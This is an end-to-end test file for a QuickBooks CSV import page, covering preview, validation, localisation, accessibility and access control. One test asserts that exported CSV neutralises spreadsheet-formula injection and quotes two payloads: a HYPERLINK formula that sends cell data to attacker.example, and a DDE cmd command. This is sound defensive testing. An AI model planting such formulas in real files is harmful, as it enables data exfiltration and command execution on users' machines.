import { readFileSync } from "node:fs";
import path from "node:path";
import type { Page } from "playwright-core";
import { describe, expect, it } from "vitest";
import { apiAs } from "../prices/fixtures";
import { pathOf, phone, scanAccessibility, useBrowser, visible, type Session } from "../../support/e2e";

const { session } = useBrowser();

const fixtures = path.resolve("tests/fixtures/quickbooks");
const fixture = (name: string) => path.join(fixtures, name);

/** The numbers of the plan's boxes and lists, by their data-count. */
async function planNumbers(page: Page) {
  return page
    .getByTestId("plan")
    .evaluate((plan) =>
      Object.fromEntries(
        [...plan.querySelectorAll("dl > div, li[data-count]")].map((el) => [
          el.getAttribute("data-count"),
          Number((el.querySelector("dd, span:last-child")?.textContent ?? "").replace(/[^\d]/g, "")),
        ]),
      ),
    );
}

async function chooseList(page: Page, label: string, slug: string) {
  await page.getByRole("combobox", { name: label }).selectOption(slug);
}

/** Chooses a file, previews it, and answers the Web Worker that read it. */
async function previewFile(s: Session, file: string, button = "Preview the import") {
  await s.page.getByLabel(/^(CSV file|Archivo CSV)$/).setInputFiles(file);
  const worker = s.page.waitForEvent("worker");
  await s.page.getByRole("button", { name: button }).click();
  return worker;
}

describe("the import screen's preview", () => {
  it("shows a seller qbo_small.csv's format, column mapping, first rows and plan, read in a Web Worker", async () => {
    const s = await session({ as: "seller" });
    await s.goto("/import-quickbooks");
    await visible(s.page.getByRole("heading", { level: 1, name: "Import QuickBooks" }));
    await chooseList(s.page, "Price list", "wholesale");
    const worker = await previewFile(s, fixture("qbo_small.csv"));
    expect(worker.url()).toMatch(/\/assets\/import\.worker-[\w-]+\.js$/);

    const preview = s.page.getByTestId("preview");
    await visible(preview.getByRole("heading", { name: "Preview: qbo_small.csv" }));
    await visible(preview.getByText("This is a preview: nothing has been written yet."));
    const facts = await preview.getByTestId("file-facts").innerText();
    expect(facts).toContain("QuickBooks Online, products and services");
    expect(facts).toContain("UTF-8");
    expect(facts).toMatch(/Data rows\s+69/);

    const mapping = preview.getByTestId("column-mapping");
    expect(await mapping.locator('tr[data-field="name"]').innerText()).toMatch(/Product\/Service Name\s+Item name/);
    expect(await mapping.locator('tr[data-field="price"]').innerText()).toMatch(/Sales Price \/ Rate\s+Price/);
    expect(await mapping.locator('tr[data-field="sku"]').innerText()).toMatch(/SKU\s+SKU/);
    expect(await preview.getByTestId("ignored-columns").innerText()).toContain("Taxable, Income Account");

    const first = preview.getByTestId("first-rows").locator("tr");
    expect(await first.count()).toBe(20);
    const row1 = await first.nth(0).locator("td").allInnerTexts();
    expect(row1).toEqual(["1", "AVO48", "Hass Avocado", "Aguacate Hass", "Fruits", "48 ct", "$54.00", "Product"]);
    const row7 = await first.nth(6).innerText();
    expect(row7).toContain("MANGO KENT 8 (deleted)");
    expect(row7).toContain("Inactive in QuickBooks: kept as an inactive product.");

    await visible(s.page.getByTestId("plan"));
    const numbers = await planNumbers(s.page);
    // Other browser tests may import into the demo lists; what is new or known may vary, the file does not.
    expect(numbers.new + numbers.linked + numbers.updated + numbers.unchanged).toBe(48);
    expect(numbers).toMatchObject({
      total: 69,
      skipped: 1,
      invalid: 20,
      errors: 0,
      serviceItem: 5,
      knownNonProductCode: 7,
      invalidDescription: 8,
      duplicate: 1,
      inactive: 2,
    });
    await visible(
      s.page.getByText("Compared with the products already in the catalogue and their prices in Wholesale."),
    );

    // Every row, filtered by status.
    const results = s.page.getByTestId("results");
    await visible(results.getByText("Rows 1–50 of 69"));
    await results.getByRole("combobox", { name: "Show" }).selectOption("skipped_service_item");
    await visible(results.getByText("Rows 1–5 of 5"));
    expect(await results.locator("tbody tr").count()).toBe(5);
    await scanAccessibility(s.page);
  });

  it("reads qbd_small.csv (a Desktop item list), and a new list re-plans without reading the file again", async () => {
    const s = await session({ as: "admin" });
    await s.goto("/import-quickbooks?list=restaurants");
    expect(await s.page.getByRole("combobox", { name: "Price list" }).inputValue()).toBe("restaurants");
    await previewFile(s, fixture("qbd_small.csv"));
    const preview = s.page.getByTestId("preview");
    await visible(preview.getByTestId("plan"));
    expect(await preview.getByTestId("file-facts").innerText()).toContain("QuickBooks Desktop, item list");
    const mapping = preview.getByTestId("column-mapping");
    expect(await mapping.locator('tr[data-field="name"]').innerText()).toMatch(/Item\s+Item name/);
    expect(await mapping.locator('tr[data-field="activeStatus"]').innerText()).toMatch(/Active Status\s+Active status/);
    expect(await mapping.locator('tr[data-field="unit"]').innerText()).toMatch(/U\/M\s+Unit of measure/);
    const avo = await preview.getByTestId("first-rows").locator('tr[data-row="3"] td').allInnerTexts();
    expect(avo.slice(1, 7)).toEqual([
      "FRUTAS:AGUACATE:AVO 48",
      "Hass Avocado",
      "Aguacate Hass",
      "Fruits",
      "48 ct",
      "$54.00",
    ]);
    const numbers = await planNumbers(s.page);
    expect(numbers.new + numbers.linked + numbers.updated + numbers.unchanged).toBe(50);
    expect(numbers).toMatchObject({ total: 69, errors: 0, inactive: 3 });
    expect(numbers.skipped + numbers.invalid).toBe(19);
    await visible(s.page.getByText(/their prices in Restaurants\.$/));

    let workers = 0;
    s.page.on("worker", () => workers++);
    await chooseList(s.page, "Price list", "customers");
    await visible(s.page.getByText(/their prices in Customers\.$/));
    expect(workers).toBe(0);
  });

  it("downloads the rows as CSV with formulas neutralised (csv_injection.csv)", async () => {
    const s = await session({ as: "seller" });
    await s.goto("/import-quickbooks", { axe: false });
    await chooseList(s.page, "Price list", "wholesale");
    await previewFile(s, fixture("bad/csv_injection.csv"));
    const results = s.page.getByTestId("results");
    await visible(results);
    const [download] = await Promise.all([
      s.page.waitForEvent("download"),
      results.getByRole("button", { name: "Download CSV" }).click(),
    ]);
    expect(download.suggestedFilename()).toBe("import-results-wholesale.csv");
    const text = readFileSync(await download.path(), "utf8");
    const lines = text
      .replace(/^\uFEFF/, "")
      .trimEnd()
      .split("\r\n");
    expect(lines[0]).toBe(
      "Row,Line,QuickBooks item,Name (English),Name (Spanish),Category,Pack value,Pack unit,Price,SKU,Quantity on hand,Product ID,Action,Status,Product in database,Price in database,Final status,Message",
    );
    expect(text).toContain(`"'=HYPERLINK(""http://attacker.example/?d=""&A1,""Click for price list"")"`);
    expect(text).toContain("'=cmd|' /C notepad'!'A1'");
    // Nothing in any cell starts a formula (quoted cells start after their quote).
    for (const line of lines.slice(1)) expect(line).not.toMatch(/^[0-9]+,[0-9]*,"?[=+\-@\t\r]/);
  });
});

describe("the import screen's validations", () => {
  it("asks for a list and a file, and refuses a .txt file and one over 10 MB before reading it", async () => {
    const s = await session({ as: "seller" });
    await s.goto("/import-quickbooks");
    await visible(s.page.getByText("No file selected.", { exact: true }));
    await s.page.getByRole("button", { name: "Preview the import" }).click();
    await visible(s.page.getByText("Price List ID is required."));
    await visible(s.page.getByText("No file selected. Please choose a CSV file to import."));
    expect(await s.page.evaluate(() => document.activeElement?.tagName)).toBe("SELECT");
    await scanAccessibility(s.page);

    let workers = 0;
    s.page.on("worker", () => workers++);
    const input = s.page.getByLabel("CSV file");
    await input.setInputFiles({
      name: "items.txt",
      mimeType: "text/plain",
      buffer: readFileSync(fixture("qbo_small.csv")),
    });
    await visible(s.page.getByText("Invalid file format. Please upload a CSV file."));
    await chooseList(s.page, "Price list", "wholesale");
    await s.page.getByRole("button", { name: "Preview the import" }).click();
    await visible(s.page.getByText("Invalid file format. Please upload a CSV file."));
    expect(await s.page.getByText("No file selected.", { exact: true }).count()).toBe(1);

    // 11 MB built here: refused on its size, never read.
    const big = Buffer.alloc(11 * 1024 * 1024, "AVO48,AGUACATE HASS 48CT,,Inventory,54.00\n");
    await input.setInputFiles({ name: "too_large_11mb.csv", mimeType: "text/csv", buffer: big });
    await visible(s.page.getByText("The file is larger than 10 MB. Export fewer items or split the file."));
    await s.page.getByRole("button", { name: "Preview the import" }).click();
    await visible(s.page.getByText("The file is larger than 10 MB. Export fewer items or split the file."));
    expect(workers).toBe(0);
    expect(await s.page.getByTestId("preview").count()).toBe(0);
  });

  it.each([
    ["bad/unclosed_quote.csv", "A quote opened on line 4 never closes. Nothing was imported."],
    [
      "bad/binary_xlsx_renamed.csv",
      "This is a spreadsheet (Excel) file, not a CSV. Save or export it as CSV and import that file.",
    ],
  ])("refuses %s with the parse error and the engine's detail", async (file, detail) => {
    const s = await session({ as: "seller" });
    await s.goto("/import-quickbooks", { axe: false });
    await chooseList(s.page, "Price list", "wholesale");
    await previewFile(s, fixture(file));
    const alert = s.page.getByRole("alert");
    await visible(alert.getByText("Error parsing CSV file. Please check the format and try again."));
    await visible(alert.getByText(detail));
    expect(await s.page.getByTestId("preview").count()).toBe(0);
  });

  it("says 'Error processing file.' when the file cannot be processed", async () => {
    const s = await session({ as: "seller" });
    s.allowConsole(/Failed to load resource|import\.worker/);
    await s.page.route(/\/assets\/import\.worker-[\w-]+\.js$/, (route) => route.abort());
    await s.goto("/import-quickbooks", { axe: false });
    await chooseList(s.page, "Price list", "wholesale");
    await s.page.getByLabel("CSV file").setInputFiles(fixture("qbo_small.csv"));
    await s.page.getByRole("button", { name: "Preview the import" }).click();
    await visible(s.page.getByRole("alert").getByText("Error processing file.", { exact: true }));
  });

  it("says 'User not authenticated.' when the session is gone, keeping the page", async () => {
    const s = await session({ as: "seller" });
    s.allowConsole(/status of 401/);
    await s.goto("/import-quickbooks", { axe: false });
    await chooseList(s.page, "Price list", "wholesale");
    await s.context.clearCookies();
    await previewFile(s, fixture("qbo_small.csv"));
    const alert = s.page.getByRole("alert");
    await visible(alert.getByText("User not authenticated."));
    const signIn = alert.getByRole("link", { name: "Sign in again" });
    expect(await signIn.getAttribute("href")).toBe("/login?redirectTo=%2Fimport-quickbooks");
    expect(pathOf(s.page)).toBe("/import-quickbooks");
    // What the file holds is still shown; only the comparison with the catalogue needs the session.
    await visible(s.page.getByTestId("first-rows"));
    expect(await s.page.getByTestId("plan").count()).toBe(0);
  });
});

describe("the import screen by drag and drop, in Spanish, on a phone, in the dark", () => {
  it("takes a dropped file and previews it", async () => {
    const s = await session({ as: "seller", lang: "es", viewport: phone, colorScheme: "dark", theme: "dark" });
    await s.goto("/import-quickbooks");
    await visible(s.page.getByRole("heading", { level: 1, name: "Importar QuickBooks" }));
    await s.page.getByRole("button", { name: "Vista previa de la importación" }).click();
    await visible(s.page.getByText("Se requiere el ID de la lista de precios."));
    await visible(s.page.getByText("No se seleccionó ningún archivo. Elija un archivo CSV para importar."));
    await chooseList(s.page, "Lista de precios", "wholesale");

    const zone = s.page.getByTestId("drop-zone");
    const transfer = await s.page.evaluateHandle(
      (content) => {
        const data = new DataTransfer();
        data.items.add(new File([content], "qbd_small.csv", { type: "text/csv" }));
        return data;
      },
      readFileSync(fixture("qbd_small.csv"), "utf8"),
    );
    await zone.dispatchEvent("dragenter", { dataTransfer: transfer });
    await zone.dispatchEvent("dragover", { dataTransfer: transfer });
    await visible(zone.getByText("Suelte el archivo para elegirlo"));
    await zone.dispatchEvent("drop", { dataTransfer: transfer });
    await visible(zone.getByText(/^Seleccionado: qbd_small\.csv \(/));

    const worker = s.page.waitForEvent("worker");
    await s.page.getByRole("button", { name: "Vista previa de la importación" }).click();
    await worker;
    const preview = s.page.getByTestId("preview");
    await visible(preview.getByTestId("plan"));
    await visible(preview.getByText("Esto es una vista previa: todavía no se ha escrito nada."));
    expect(await preview.getByTestId("file-facts").innerText()).toContain("QuickBooks Desktop, lista de artículos");
    const avo = await preview.getByTestId("first-rows").locator('tr[data-row="3"] td').allInnerTexts();
    expect(avo.slice(2, 7)).toEqual(["Hass Avocado", "Aguacate Hass", "Frutas", "48 unidades", "$54.00"]);
    await visible(preview.getByText("Lo que haría la importación"));
    await visible(s.page.getByTestId("results").getByText("Filas 1–50 de 69"));
    // The page fits the phone: wide tables scroll inside their own region.
    expect(await s.page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(phone.width);
    await scanAccessibility(s.page);
  });

  it("reaches the file picker from the keyboard, named and described for a screen reader", async () => {
    const s = await session({ as: "seller", axe: false });
    await s.goto("/import-quickbooks");
    // Keys pressed before hydration can land on an element React then replaces.
    await s.hydrated();
    const select = s.page.getByRole("combobox", { name: "Price list" });
    await select.focus();
    // The list's own "New price list" comes first, then the file.
    await s.page.keyboard.press("Tab");
    expect(await s.page.evaluate(() => document.activeElement?.textContent)).toBe("New price list");
    await s.page.keyboard.press("Tab");
    const focused = await s.page.evaluate(() => {
      const el = document.activeElement as HTMLInputElement;
      const text = (ids: string | null) =>
        (ids ?? "")
          .split(" ")
          .map((id) => document.getElementById(id)?.textContent ?? "")
          .join(" ");
      return {
        type: el.type,
        name: text(el.getAttribute("aria-labelledby")),
        description: text(el.getAttribute("aria-describedby")),
      };
    });
    expect(focused).toEqual({
      type: "file",
      name: "CSV file",
      description: "A CSV exported from QuickBooks Online or Desktop, at most 10 MB. No file selected.",
    });
    const chooser = s.page.waitForEvent("filechooser");
    await s.page.keyboard.press("Space");
    await (await chooser).setFiles(fixture("qbo_small.csv"));
    await visible(s.page.getByText(/^Selected: qbo_small\.csv \(/));
  });
});

describe("the import screen refused", () => {
  it("sends a customer to /unauthorized and refuses the plan request with 403", async () => {
    const s = await session({ as: "customer", axe: false });
    await s.goto("/import-quickbooks");
    expect(pathOf(s.page)).toBe("/unauthorized");
    const api = await apiAs("customer");
    const body = { intent: "plan", list: "wholesale", quickbooksIds: ["AVO48"], skus: [] };
    for (const url of ["/import-quickbooks", "/import-quickbooks.data"]) {
      const res = await api.post(url, { data: body, maxRedirects: 0 });
      expect(res.status(), url).toBe(403);
      expect(await res.text()).not.toContain("AVO48");
    }
    await api.dispose();
  });
});
